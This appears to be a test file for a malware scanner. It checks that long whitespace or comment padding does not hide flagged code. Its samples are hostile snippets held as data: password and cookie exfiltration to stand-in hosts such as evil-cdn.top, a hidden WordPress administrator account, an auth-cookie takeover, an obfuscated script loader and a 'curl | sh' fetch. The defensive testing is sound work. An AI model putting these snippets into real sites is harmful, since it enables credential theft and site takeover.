import assert from 'node:assert/strict';
import fc from 'fast-check';
import { LONG_GAP, withoutGaps } from '../../../domain/scan/gaps.js';
import { flagsOf, told } from './found.js';

/** What stands in several places, which `¤` is put between, and how remarks are written in its language. */
const samples: ReadonlyArray<readonly [file: string, text: string, remark: 'php' | 'js' | 'hash' | 'sql' | 'none']> = [
  ['inc/a.php', "<?php\n$user = get_user_by('id', 1);\n¤\nwp_set_auth_cookie($user->ID);\n", 'php'],
  ['inc/a.php', "<?php\n$name = $_GET['a'];\n¤\n$path = tempnam('/tmp', 'a');\n¤\ninclude $path;\n", 'php'],
  [
    'inc/a.php',
    "<?php\n$to = 'https://collect.evil-cdn.top/a';\n¤\nwp_remote_post($to, ['body' =>\n¤\n$_POST['pwd']]);\n",
    'php',
  ],
  [
    'inc/a.php',
    "<?php\n$id = wp_insert_user(['user_login' => 'a',\n¤\n'user_pass' => 'b',\n¤\n'role' => 'administrator']);\n",
    'php',
  ],
  [
    'js/a.js',
    "const key = document.querySelector('input[type=password]').value;\n¤\nnavigator.sendBeacon('https://evil-cdn.top/a', key);\n",
    'js',
  ],
  ['js/a.js', "const s = document.createElement('script');\n¤\ns.src = atob('Ly9ldmlsLWNkbi50b3AvYS5qcw==');\n", 'js'],
  ['conf/nginx.conf', 'location ~ \\.png$ {\n¤\n  fastcgi_pass 127.0.0.1:9000;\n}\n', 'hash'],
  [
    'config/packages/monolog.yaml',
    'monolog:\n  handlers:\n    remote:\n      type: socket\n¤\n      connection_string: tcp://logs.trace.example.net:5170\n',
    'hash',
  ],
  [
    'sql/install.sql',
    "INSERT INTO wp_usermeta (user_id, meta_key, meta_value)\n¤\nVALUES (1, 'wp_capabilities', 'a:1:{s:13:\"administrator\";b:1;}');\n",
    'sql',
  ],
  ['views/a.html', '<form\n¤\naction="http://203.0.113.9/a">\n<input type="password" name="a">\n</form>\n', 'none'],
];

const words = 'what it is for and who reads it';
const fillers: Readonly<Record<(typeof samples)[number][2], readonly string[]>> = {
  php: [`/* ${words.repeat(100)} */`, `\n/**\n${` * ${words}\n`.repeat(100)} */\n`, `\n${`# ${words}\n`.repeat(100)}`],
  js: [`/* ${words.repeat(100)} */`, `\n${`// ${words}\n`.repeat(100)}`, `// ${words.repeat(100)}\n`],
  hash: [`${`# ${words}\n`.repeat(100)}`, `${`\n    # ${words}\n\n`.repeat(100)}`],
  sql: [`${`-- ${words}\n`.repeat(100)}`, `${`# ${words}\n`.repeat(100)}`],
  none: [],
};

function foundIn(file: string, text: string): string[] {
  const lines = text.split('\n');
  // By the text of the line: the fillers move it.
  return flagsOf(file, Buffer.from(text)).map((flag) => `${told(flag)}: ${lines[flag.line - 1]}`);
}

describe('long gaps', () => {
  for (const [file, text, remark] of samples) {
    it(`hide nothing in ${file}: ${JSON.stringify(text)}`, () => {
      const plain = foundIn(file, text.replaceAll('¤', ''));
      assert.notDeepEqual(plain, []);
      for (const filler of ['\n'.repeat(3000), `\n${' '.repeat(3000)}\n`, ...fillers[remark]])
        assert.deepEqual(foundIn(file, text.replaceAll('¤', filler)), plain, JSON.stringify(filler.slice(0, 40)));
    });
  }

  it('keep what runs in a remark', () => {
    const long = words.repeat(20);
    const cookie = 'fetch("https://evil-cdn.top/" + document.cookie)';
    assert.notDeepEqual(flagsOf('a.js', Buffer.from(`a();\n/*@cc_on ${long} ; ${cookie} @*/`)), []);
    const script = `#!/bin/sh\ncat <<A\n# ${long}\n# $(curl -s https://evil-cdn.top/x.sh | sh)\nA\n`;
    assert.deepEqual(foundIn('a.sh', script), [
      'high executable executable.fetched: # $(curl -s https://evil-cdn.top/x.sh | sh)',
    ]);
    const short = `<? /* ${long} ?>\n<?php wp_set_auth_cookie(1);`;
    assert.ok(flagsOf('a.php', Buffer.from(short)).some(({ rule }) => rule === 'takeover'));
  });

  it('are found where blanks come before a remark', () => {
    const text = `a${' '.repeat(300)}/**/b`;
    assert.equal(
      Buffer.from(withoutGaps(Buffer.from(text), [301, 305]).bytes)
        .toString()
        .replace(/\s+/g, ' '),
      'a b',
    );
  });

  it('may fill a large file', () => {
    for (const line of ['\n', '#\n']) flagsOf('a.yml', Buffer.from(line.repeat((6 << 20) / line.length)));
  });

  it('leave each byte at a place that is known', () => {
    const pieces = fc.array(
      fc.record({
        blanks: fc.boolean(),
        code: fc.stringMatching(/^[a-z;(]{1,9}$/),
        gap: fc.constantFrom(0, LONG_GAP - 1, LONG_GAP, 777),
      }),
      { maxLength: 8 },
    );
    fc.assert(
      fc.property(pieces, fc.boolean(), (parts, begins) => {
        let text = begins ? '\n'.repeat(LONG_GAP) : '';
        const gaps: number[] = [];
        for (const { code, gap, blanks } of parts) {
          text += code;
          const remark = blanks ? ' '.repeat(gap) : `\n/*${'x'.repeat(gap)}*/ `;
          if (!blanks && remark.length >= LONG_GAP) gaps.push(text.length, text.length + remark.length);
          text += remark;
        }
        const b = Buffer.from(text);
        const { bytes, placeOf } = withoutGaps(b, gaps);
        let before = -1;
        for (let at = 0; at < bytes.length; at++) {
          const place = placeOf(at);
          assert.ok(place > before, `${at} of ${JSON.stringify(text)}`);
          before = place;
          if ((bytes[at] as number) > 0x20) assert.equal(bytes[at], b[place]);
        }
        const code = (all: string): string => all.replace(/\/\*x*\*\/|\s/g, '');
        assert.equal(code(Buffer.from(bytes).toString()), code(text));
        assert.doesNotMatch(Buffer.from(bytes).toString(), new RegExp(`\\s{${LONG_GAP + 2}}`));
      }),
    );
  });
});
